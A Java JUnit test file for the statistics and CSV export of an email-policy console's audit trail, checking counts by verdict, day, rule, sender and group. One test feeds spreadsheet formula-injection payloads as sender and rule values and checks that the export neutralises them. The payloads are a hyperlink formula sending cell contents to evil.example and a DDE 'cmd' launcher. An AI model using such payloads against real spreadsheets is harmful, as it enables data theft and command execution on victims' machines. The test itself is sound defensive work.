package org.outward.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.outward.policy.Action;

/** The statistics of a trail written by the audit trail's own writer, over a period of whole UTC days. */
class StatisticsTallyTest {

    private static final LocalDate TODAY = LocalDate.parse("2026-12-07");

    @TempDir
    Path logs;

    private Path trail() {
        TrailWriter write = new TrailWriter(logs.resolve("outward-audit.jsonl"));
        write.decision("2026-11-30T23:59:59.999Z", "sam@party.example", List.of(), "block", "too-early");
        write.decision("2026-12-01T00:00:00Z", "sam@party.example", List.of(), "block", "personal-data-unprotected");
        write.decision("2026-12-01T09:00:00Z", "Sam@Party.Example", List.of(), "quarantine", "not-fully-inspected");
        write.decision("2026-12-03T10:00:00Z", "data.officer@party.example", List.of("data-team", "officers"), "wrap",
                "data-team-secure-link", "personal-data-unprotected");
        write.decision("2026-12-03T11:00:00Z", "chair@party.example", List.of("officers"), "warn", "printer-reminder");
        write.decision("2026-12-05T08:00:00Z", "old@party.example", null, "block", "personal-data-unprotected");
        write.decision("2026-12-07T08:00:00Z", "", List.of(), "pass");
        write.decision("2026-12-07T08:30:00Z", "kim@party.example", List.of(), "monitor", "printer-trial");
        write.release("2026-12-07T09:00:00Z", "admin");
        write.broken();
        write.decision("2026-12-08T00:00:00Z", "sam@party.example", List.of(), "block", "too-late");
        return logs.resolve("outward-audit.jsonl");
    }

    private Statistics lastWeek() throws Exception {
        return StatisticsTally.count(trail(), StatisticsPeriod.lastDays(7, TODAY));
    }

    @Test
    void countsTheMessagesOfThePeriodByVerdictAndDay() throws Exception {
        Statistics statistics = lastWeek();

        assertThat(statistics.total().counts()).containsExactly(2, 1, 1, 1, 1, 1);
        assertThat(statistics.total().judged()).isEqualTo(7);
        assertThat(statistics.days()).extracting(d -> d.day().toString()).containsExactly("2026-12-01", "2026-12-02",
                "2026-12-03", "2026-12-04", "2026-12-05", "2026-12-06", "2026-12-07");
        assertThat(statistics.days()).extracting(d -> d.counts().judged()).containsExactly(2, 0, 2, 0, 1, 0, 2);
        assertThat(statistics.days().get(0).counts().of(Action.BLOCK)).isEqualTo(1);
        assertThat(statistics.days().get(0).counts().of(Action.QUARANTINE)).isEqualTo(1);
        assertThat(statistics.unreadable()).isEqualTo(1);
    }

    @Test
    void countsRulesMostFirstAndTheSendersStoppedMost() throws Exception {
        Statistics statistics = lastWeek();

        assertThat(statistics.rules()).containsExactly(new Statistics.RuleCount("personal-data-unprotected", 3),
                new Statistics.RuleCount("data-team-secure-link", 1), new Statistics.RuleCount("not-fully-inspected", 1),
                new Statistics.RuleCount("printer-reminder", 1), new Statistics.RuleCount("printer-trial", 1));
        assertThat(statistics.senders()).containsExactly(new Statistics.SenderCount("sam@party.example", 1, 1),
                new Statistics.SenderCount("old@party.example", 1, 0));
    }

    @Test
    void countsByTheSendersGroupsAndKeepsOlderLinesApart() throws Exception {
        Statistics statistics = lastWeek();

        assertThat(statistics.groups()).extracting(Statistics.GroupCount::name, Statistics.GroupCount::kind,
                g -> g.counts().judged()).containsExactly(
                org.assertj.core.groups.Tuple.tuple("data-team", Statistics.GroupKind.NAMED, 1),
                org.assertj.core.groups.Tuple.tuple("officers", Statistics.GroupKind.NAMED, 2),
                org.assertj.core.groups.Tuple.tuple("", Statistics.GroupKind.NO_GROUP, 4),
                org.assertj.core.groups.Tuple.tuple("", Statistics.GroupKind.NOT_RECORDED, 1));
        assertThat(statistics.groups().get(3).counts().of(Action.BLOCK)).isEqualTo(1);
    }

    @Test
    void countsTheOtherEventsOfEveryKindTheTrailKnows() throws Exception {
        Statistics statistics = lastWeek();

        assertThat(statistics.events()).contains(new Statistics.EventCount("release", 1),
                new Statistics.EventCount("delete", 0)).noneMatch(e -> e.kind().equals("decision"));
    }

    @Test
    void aCustomPeriodCountsItsDaysOnly() throws Exception {
        Path file = trail();
        Statistics statistics = StatisticsTally.count(file, new StatisticsPeriod(StatisticsPeriod.CUSTOM,
                LocalDate.parse("2026-12-03"), LocalDate.parse("2026-12-03")));

        assertThat(statistics.total().judged()).isEqualTo(2);
        assertThat(statistics.days()).hasSize(1);
        assertThat(statistics.senders()).isEmpty();
        assertThat(statistics.unreadable()).as("the broken line has no time: it belongs to any period").isEqualTo(1);
    }

    @Test
    void aTrailNotWrittenYetHasNothingToCount() throws Exception {
        Statistics statistics = StatisticsTally.count(logs.resolve("outward-audit.jsonl"),
                StatisticsPeriod.lastDays(30, TODAY));

        assertThat(statistics.total().judged()).isZero();
        assertThat(statistics.days()).hasSize(30).allMatch(d -> d.counts().judged() == 0);
    }

    @Test
    void theCsvHasOneFigureARowAndNoCellASpreadsheetWouldRun() throws Exception {
        TrailWriter write = new TrailWriter(logs.resolve("outward-audit.jsonl"));
        write.decision("2026-12-02T10:00:00Z", "=hyperlink(\"http://evil.example/?\"&a1,\"x\")@party.example",
                List.of(), "block", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\uFF1D1+1");
        write.decision("2026-12-02T11:00:00Z", "\tsneaky@party.example", List.of(), "quarantine", "plain-rule, with comma");

        String csv = StatisticsCsv.of(StatisticsTally.count(logs.resolve("outward-audit.jsonl"),
                StatisticsPeriod.lastDays(7, TODAY)));
        List<CSVRecord> rows;
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.RFC4180)) {
            rows = parser.getRecords();
        }

        assertThat(rows.get(0).toList()).containsExactly("section", "item", "measure", "value");
        assertThat(rows).allSatisfy(row -> assertThat(row.size()).isEqualTo(4));
        assertThat(rows).allSatisfy(row -> row.forEach(cell ->
                assertThat(cell).as("cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\uFF1D")));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("sender",
                "'=hyperlink(\"http://evil.example/?\"&a1,\"x\")@party.example", "block", "1"));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("rule", "'+cmd|' /C calc'!A0",
                "messages", "1"));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("rule", "plain-rule, with comma",
                "messages", "1"));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("sender", "'\tsneaky@party.example",
                "quarantine", "1"));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("day", "2026-12-02", "judged", "2"));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("total", "", "block", "1"));
        assertThat(rows).anySatisfy(row -> assertThat(row.toList()).containsExactly("period", "", "from", "2026-12-01"));
    }

    @Test
    void barsGrowInStepsAndAnythingAtAllShowsOne() {
        assertThat(StatisticsPages.barWidth(0, 10)).isEmpty();
        assertThat(StatisticsPages.barWidth(10, 10)).isEqualTo("w100");
        assertThat(StatisticsPages.barWidth(1, 1000)).isEqualTo("w5");
        assertThat(StatisticsPages.barWidth(5, 10)).isEqualTo("w50");
    }
}
